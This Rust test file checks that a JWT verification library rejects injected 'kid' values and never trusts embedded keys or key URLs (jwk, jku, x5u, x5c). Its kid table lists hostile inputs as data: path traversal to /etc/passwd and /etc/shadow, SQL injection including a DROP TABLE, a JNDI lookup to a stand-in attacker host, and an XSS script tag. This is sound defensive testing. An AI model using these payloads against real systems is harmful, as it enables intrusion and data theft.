//! Keys named or carried by the header: `kid` injection (paths, SQL,
//! templates, NUL, 10 KB), a kid of another loaded key, and `jwk`, `jku`,
//! `x5u`, `x5c` carrying the attacker's key or URL, which are never used.
//! A token that names no key (no `kid`, or `null`) is `MissingKeyId`.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use claims_core::{Algorithm, Error, KeyKind};
use serde_json::json;

use crate::common::{b64, builder, profile_token, random_bytes, segments};
use crate::forge::{
    DEFAULT_CAP, JKU, KID, Obj, Ticket, X5U, attackers, claims, forge, forge_by, header, keys,
    ours, q, roomy,
};
use crate::issued::{hs256_signature_with, with_header};
use crate::runner::{Case, Expect, decode_as, run};

/// `jwk`, `jku`, `x5u` and `x5c` carrying the attacker's key or URL: a token
/// signed by the attacker's key fails on the signature (the header's key is
/// never used, the URLs never fetched); the same headers on a token signed
/// with the loaded key are ignored, and it verifies.
#[test]
fn embedded_keys_and_key_urls_are_never_followed() {
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        let jwk = attackers().jwk(alg).to_string();
        let x5c_der = attackers()
            .spki_der(alg)
            .unwrap_or_else(|| random_bytes::<64>().to_vec());
        let x5c = json!([STANDARD.encode(x5c_der)]).to_string();
        let variants = [
            ("jwk", header(alg).push("jwk", jwk.as_str())),
            ("jku", header(alg).push("jku", q(JKU))),
            ("x5u", header(alg).push("x5u", q(X5U))),
            ("x5c", header(alg).push("x5c", x5c.as_str())),
            (
                "jwk, jku, x5u and x5c",
                header(alg)
                    .push("jwk", jwk.as_str())
                    .push("jku", q(JKU))
                    .push("x5u", q(X5U))
                    .push("x5c", x5c.as_str()),
            ),
        ];
        for (what, h) in &variants {
            let payload = claims().text();
            cases.push(
                Case::decode(
                    format!("{alg}: {what}, signed by the attacker"),
                    keys(alg),
                    forge_by(attackers(), alg, &h.text(), &payload),
                    Expect::Is(Error::Signature),
                )
                .planted(JKU)
                .planted(X5U)
                .planted(x5c.as_str()),
            );
            cases.push(Case::decode(
                format!("{alg}: {what}, signed by the loaded key"),
                keys(alg),
                forge_by(ours(), alg, &h.text(), &payload),
                Expect::Accepted,
            ));
        }
        // A kid naming the embedded key only: no fallback to the header's key.
        let mut own_jwk = attackers().jwk(alg);
        own_jwk["kid"] = "attacker-kid".into();
        let h = header(alg)
            .set("kid", q("attacker-kid"))
            .push("jwk", own_jwk.to_string());
        cases.push(
            Case::decode(
                format!("{alg}: kid names only the embedded jwk"),
                keys(alg),
                forge_by(attackers(), alg, &h.text(), &claims().text()),
                Expect::Is(Error::UnknownKey(KeyKind::Signing)),
            )
            .planted("attacker-kid"),
        );
    }
    run("embedded keys", &cases);
}

#[test]
#[allow(clippy::too_many_lines)] // a table of cases
fn injected_kids_are_unknown_key() {
    let long = "k".repeat(10 * 1024);
    let kids: Vec<String> = [
        "../../etc/passwd",
        "../../../../../../dev/null",
        "/etc/shadow",
        r"..\..\windows\win.ini",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "1; DROP TABLE signing_keys; --",
        "${jndi:ldap://attacker.example.invalid/kid}",
        "<script>alert('kid')</script>",
        "%2e%2e%2fetc%2fpasswd",
        "",
        "ключ-🔑-鍵",
        "hostile-1\0",
        "\0",
        "hostile-1\0../../etc/passwd",
        "HOSTILE-1",
        "hostile-1 ",
        " hostile-1",
        "hostile-1\n",
        "hostile-",
        "hostile-12",
    ]
    .into_iter()
    .map(str::to_string)
    .chain([long])
    .collect();
    let mut cases = Vec::new();
    for alg in Algorithm::ALL {
        for kid in &kids {
            // Signed by the loaded key: only the kid is wrong.
            let token = forge(alg, &header(alg).set("kid", q(kid)), &claims());
            let keys = if token.len() > DEFAULT_CAP {
                roomy(alg)
            } else {
                keys(alg)
            };
            let shown: String = kid.chars().take(24).collect();
            cases.push(
                Case::decode(
                    format!("{alg}: kid {shown:?} ({} bytes)", kid.len()),
                    keys,
                    token,
                    Expect::Is(Error::UnknownKey(KeyKind::Signing)),
                )
                .planted(kid.as_str()),
            );
        }
        let mut push = |what: &str, h: Obj, expect| cases.push(Case::header(alg, what, &h, expect));
        let no_kid = Expect::Is(Error::MissingKeyId);
        push("kid missing", header(alg).without("kid"), no_kid.clone());
        push("kid null", header(alg).set("kid", "null"), no_kid);
        push("kid 1", header(alg).set("kid", "1"), Expect::Malformed);
        push(
            "kid as an array",
            header(alg).set("kid", format!("[{}]", q(KID))),
            Expect::Malformed,
        );
        push(
            "kid as an object",
            header(alg).set("kid", r#"{"id":1}"#),
            Expect::Malformed,
        );

        // Two keys of this algorithm: a kid names one, the other signed.
        let two = builder()
            .signing_key(ours().signing_key(alg, KID))
            .signing_key(attackers().signing_key(alg, "hostile-2"))
            .build()
            .expect("two keys");
        let two_check = || decode_as::<Ticket>(two.clone());
        cases.push(Case::new(
            format!("{alg}: kid of key 1, signed by key 2"),
            two_check(),
            forge_by(attackers(), alg, &header(alg).text(), &claims().text()),
            Expect::Is(Error::Signature),
        ));
        cases.push(Case::new(
            format!("{alg}: kid of key 2, signed by key 1"),
            two_check(),
            forge(alg, &header(alg).set("kid", q("hostile-2")), &claims()),
            Expect::Is(Error::Signature),
        ));
        cases.push(Case::new(
            format!("{alg}: kid of key 2, signed by key 2"),
            two_check(),
            forge_by(
                attackers(),
                alg,
                &header(alg).set("kid", q("hostile-2")).text(),
                &claims().text(),
            ),
            Expect::Accepted,
        ));
    }
    run("kid injection", &cases);
}

/// The same on a token `claims` issued for the canary profile.
#[test]
fn issued_tokens_name_no_key_but_a_loaded_one() {
    let token = profile_token();
    let [_, p, _] = segments(&token);
    // An attacker's key embedded as a `jwk` (and a `jku`), signed with it.
    let attacker: [u8; 32] = random_bytes();
    let embedding = json!({
        "alg": "HS256", "typ": "JWT", "kid": "sig-1",
        "jwk": {"kty": "oct", "k": b64(attacker)},
        "jku": JKU,
    })
    .to_string();
    let input = format!("{}.{p}", b64(embedding));
    let by_attacker = format!("{input}.{}", hs256_signature_with(&attacker, &input));
    let key_urls = json!({
        "alg": "HS256", "typ": "JWT", "kid": "sig-1", "jku": JKU, "x5u": X5U,
    })
    .to_string();
    let cases = vec![
        Case::profile(
            "an embedded jwk, signed by it",
            by_attacker,
            Expect::Is(Error::Signature),
        )
        .planted(JKU),
        Case::profile(
            "jku and x5u, signed by the loaded key",
            with_header(&key_urls),
            Expect::Accepted,
        ),
        Case::profile(
            "kid sig-9",
            with_header(r#"{"alg":"HS256","typ":"JWT","kid":"sig-9"}"#),
            Expect::Is(Error::UnknownKey(KeyKind::Signing)),
        ),
        Case::profile(
            "kid missing",
            with_header(r#"{"alg":"HS256","typ":"JWT"}"#),
            Expect::Is(Error::MissingKeyId),
        ),
    ];
    run("header keys (issued tokens)", &cases);
}
